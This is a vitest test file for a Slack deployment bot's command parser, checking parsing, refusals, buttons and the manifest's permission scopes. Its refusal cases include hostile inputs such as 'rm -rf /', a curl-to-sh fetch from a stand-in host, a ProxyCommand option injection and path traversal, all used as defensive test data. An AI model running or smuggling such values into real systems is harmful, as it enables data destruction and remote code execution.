import { readFileSync } from 'node:fs';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { parse as parseYaml } from 'yaml';
import type { Asking } from '../../src/slack/commands/asking.ts';
import { COMMANDS, runCommand, runMention, VERBS } from '../../src/slack/commands/index.ts';
import { readTarget, readWords } from '../../src/slack/commands/parse.ts';
import type { Modal } from '../../src/slack/views/modal.ts';
import { phases } from '../support/phases.ts';
import { anActor, aRollout, aService, aStage, CHANNEL, PEOPLE, sha } from '../support/rollout.ts';
import { buttonsIn, faultsOf, idsIn, textIn } from './blocks.ts';
import { aDesk } from './desk.ts';

const VOCABULARY = {
  services: [
    { name: 'api', stages: ['staging', 'prod'] },
    { name: 'web', stages: ['staging', 'prod'] },
  ],
  bound: null as string | null,
};

const read = (text: string, bound: string | null = null) => {
  const words = readWords(text);
  return words.is === 'problem' ? words : readTarget(words, { ...VOCABULARY, bound }, '/deploy');
};

function asking(over: Partial<Asking> = {}) {
  const opened: Modal[] = [];
  const desk = aDesk([aRollout()], [aService(), aService({ name: 'web', channel: 'C0WEB' })]);
  const value: Asking = {
    desk,
    people: PEOPLE,
    actorFor: async () => anActor(),
    channel: CHANNEL,
    bound: null,
    rollout: null,
    open: async (modal) => {
      opened.push(modal);
    },
    ...over,
  };
  return { asking: value, desk, opened };
}

describe('X2 the words of a command', () => {
  it.each([
    ['api', 'api', null, null, null],
    ['api@main', 'api', null, 'main', null],
    ['api@feature/x to prod', 'api', 'prod', 'feature/x', null],
    ['api on prod', 'api', 'prod', null, null],
    ['api prod', 'api', 'prod', null, null],
    ['API Prod', 'api', 'prod', null, null],
    ['api prod main', 'api', 'prod', 'main', null],
    ['api to prod to last-good because it burns', 'api', 'prod', 'last-good', 'it burns'],
    ['api prod to -1', 'api', 'prod', '-1', null],
    ['api@#12 staging because of É', 'api', 'staging', '#12', 'of É'],
    ['api prod reason:"<!channel> a"', 'api', 'prod', null, '<!channel> a'],
    [`api@${sha('a')}`, 'api', null, sha('a'), null],
    [`api prod sha256:${'f'.repeat(64)}`, 'api', 'prod', `sha256:${'f'.repeat(64)}`, null],
  ])('%s', (text, service, stage, ref, because) => {
    expect(read(text)).toMatchObject({ is: 'target', service, stage, ref, because });
  });

  it('take what is left out from the channel, and say so', () => {
    expect(read('to prod', 'web')).toMatchObject({
      service: 'web',
      stage: 'prod',
      assumed: [expect.stringContaining('web')],
    });
    expect(read('@main prod', 'web')).toMatchObject({ service: 'web', ref: 'main', stage: 'prod' });
    expect(read('', 'web')).toMatchObject({ service: 'web' });
    expect(read('api', 'web')).toMatchObject({ service: 'api', assumed: [] });
    expect(read('')).toMatchObject({ is: 'problem' });
  });

  it.each([
    ['api prod; rm -rf /', '“;”'],
    ['api prod $(curl http://evil.test/x|sh)', '“$”'],
    ['api prod `id`', '“`”'],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell's
    ['api prod -oProxyCommand=touch${IFS}/var/p', 'looks like an option'],
    ['toString hasOwnProperty', 'no service “toString”'],
    ['__proto__ prod', '“__proto__”'],
    ['api \u0440rod', 'U+0440'],
    ['api prod\u202egnigats', 'U+202E'],
    ['api\u200bprod', 'U+200B'],
    ['api\u00a0prod', 'U+00A0'],
    ['“api” prod –force', 'plain quotes'],
    ['api prod prod', 'Two stages'],
    ['api staging prod', 'Two stages'],
    ['api prod main extra', 'one word too many'],
    ['api prod sha:1234567', 'shortened commit'],
    ['api@1234567', 'shortened commit'],
    [`api prod ${'0'.repeat(40)}`, 'only zeros'],
    ['api@a@b', 'more than one @'],
    ['api@', 'should follow the @'],
    ['api to', 'should follow “to”'],
    ['api because', 'nothing does'],
    ['api prod because \u202egnp', 'U+202E'],
    ['api prod to ../../etc', 'cannot be the name'],
  ])('refuse %s', (text, why) => {
    const problem = read(text);
    expect(problem).toMatchObject({ is: 'problem', sentence: expect.stringContaining(why) });
  });

  it('offer the nearest name, complete, to be run by a button', () => {
    expect(read('apii@main prod')).toMatchObject({ retry: '/deploy api@main prod' });
    expect(read('api prdo')).toMatchObject({ retry: '/deploy api prod' });
  });

  it('are at most 1000 characters, and read in time that grows with their length only', () => {
    expect(read('a '.repeat(20_000))).toMatchObject({ sentence: expect.stringContaining('40000 characters') });
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 1200 }), (text) => {
        const target = read(text);
        if (target.is === 'target') expect(['api', 'web']).toContain(target.service);
      }),
    );
  });
});

const HOSTILE: { id: string; where: string; input: string; expect: string }[] = JSON.parse(
  readFileSync(new URL('../hostile-inputs.json', import.meta.url), 'utf8'),
).filter((row: { where: string }) => row.where.startsWith('slack.slash:'));

describe('T20 hostile commands', () => {
  it.each(HOSTILE.map((row) => [row.id, row] as const))('%s changes nothing by its text alone', async (_id, row) => {
    const service = aService({ stages: [aStage(), aStage({ name: 'prod', isProtected: true })] });
    const { asking: ask, desk } = asking({ desk: aDesk([], [service]) });
    const text = row.input.startsWith('js:') ? `${'a '.repeat(20_000)}!` : row.input;
    const command = /\/(\w+) text/.exec(row.where)?.[0]?.split(' ')[0] ?? '';
    const message = await runCommand(command, text, ask);
    expect(desk.asked).toMatchObject({ deploys: [], rollbacks: [], events: [] });
    if (message) expect(faultsOf(message)).toEqual([]);
    const mayProceed = ['H002', 'H017', 'H023', 'H026', 'H030', 'H031'];
    if (message && !mayProceed.includes(row.id)) expect(message.text).toMatch(/^Not done\./);
  });
});

describe('commands', () => {
  it('open a form for /deploy without words, filled in from the channel', async () => {
    const { asking: ask, opened } = asking({ bound: aService() });
    expect(await runCommand('/deploy', '   ', ask)).toBeNull();
    expect(JSON.stringify(opened)).toContain('"initial_option":{"text":{"type":"plain_text","text":"api"}');
  });

  it('X6 end a deploy in its plan and a button that asks again, with the full commit in it', async () => {
    const { asking: ask } = asking();
    const message = await runCommand('/deploy', 'api@main to prod because it is time', ask);
    expect(faultsOf(message ?? { text: '', blocks: [] })).toEqual([]);
    expect(textIn(message ?? { blocks: [] })).toContain(sha('a'));
    const [confirm] = buttonsIn(message ?? { blocks: [] });
    expect(confirm).toMatchObject({ action_id: 'confirm-deploy', confirm: expect.anything() });
    expect(JSON.parse(String(confirm?.value))).toMatchObject({ sha: sha('a'), upTo: 'prod', because: 'it is time' });
    expect(idsIn((await runCommand('/deploy', 'plan api', ask)) ?? { blocks: [] })).toEqual([]);
  });

  it('D5 end a rollback in one confirmed click, or ask for the reason first', async () => {
    const { asking: ask, opened } = asking();
    const message = await runCommand('/rollback', 'api on prod because it burns', ask);
    expect(idsIn(message ?? { blocks: [] })).toEqual(['confirm-rollback']);
    expect(await runCommand('/rollback', 'api', ask)).toBeNull();
    expect(opened[0]?.callback_id).toBe('rollback-service');
    const branch = await runCommand('/rollback', 'api@main because x', ask);
    expect(branch?.text).toContain('not an exact version');
  });

  it('answer status, history, queue, help', async () => {
    const { asking: ask } = asking();
    for (const [command, text] of [
      ['/deploy', 'status'],
      ['/deploy', 'history api'],
      ['/deploy', 'queue'],
      ['/belay', 'help'],
      ['/belay', 'help rollback'],
      ['/belay', ''],
      ['/belay', 'status'],
    ] as const) {
      const message = await runCommand(command, text, ask);
      expect(faultsOf(message ?? { text: '', blocks: [] }), text).toEqual([]);
      expect(message?.text, text).not.toMatch(/^Not done/);
    }
  });

  it('offer the verb that was meant', async () => {
    const { asking: ask } = asking();
    const message = await runCommand('/deploy', 'histroy api', ask);
    expect(buttonsIn(message ?? { blocks: [] })[0]).toMatchObject({ action_id: 'run', value: '/deploy history api' });
    expect((await runCommand('/belay', 'hlep', ask))?.text).toContain('help');
  });

  it('X2 work by mention too; approving by text is refused, and a choice ends in its button', async () => {
    const deciding = aRollout({ phase: phases()[8] as never });
    const { asking: ask } = asking({ rollout: deciding, open: null });
    expect(idsIn((await runMention('<@U0BELAY> retry', ask)) ?? { blocks: [] })).toEqual(['decide:retry']);
    expect((await runMention('<@U0BELAY> approve', ask))?.text).toContain('with the buttons');
    expect(idsIn((await runMention('<@U0BELAY> rollback because it burns', ask)) ?? { blocks: [] })).toEqual([
      'confirm-rollback',
    ]);
    expect(idsIn((await runMention('<@U0BELAY> rollback', ask)) ?? { blocks: [] })).toEqual(['rollback-form']);
    expect((await runMention('<@U0BELAY> rertry', ask))?.text).toContain('“retry”');
    expect((await runMention('<@U0BELAY> retry', { ...ask, rollout: aRollout() }))?.text).toContain(
      'cannot be chosen now',
    );
  });
});

describe('manifest.yml', () => {
  const manifest = parseYaml(readFileSync(new URL('../../manifest.yml', import.meta.url), 'utf8'));

  it('declares exactly the commands of the table, with their verbs in the hint', () => {
    const declared: { command: string; usage_hint: string }[] = manifest.features.slash_commands;
    expect(declared.map((one) => one.command).sort()).toEqual([...COMMANDS].sort());
    for (const verb of VERBS) {
      const hint = declared.find((one) => one.command === verb.command)?.usage_hint ?? '';
      expect(hint).toContain(verb.name);
    }
  });

  it('T15 asks for no more than it needs: nothing that reads messages or posts where it was not invited', () => {
    const scopes: string[] = manifest.oauth_config.scopes.bot;
    const allowed = [
      'commands',
      'chat:write',
      'app_mentions:read',
      'users:read',
      'usergroups:read',
      'channels:read',
      'groups:read',
      'im:write',
      'files:write',
    ];
    for (const scope of scopes) expect(allowed).toContain(scope);
    expect(manifest.oauth_config.scopes.user).toBeUndefined();
    expect(manifest.settings.event_subscriptions.bot_events).toEqual(['app_mention']);
    expect(manifest.settings.interactivity.is_enabled).toBe(true);
  });
});
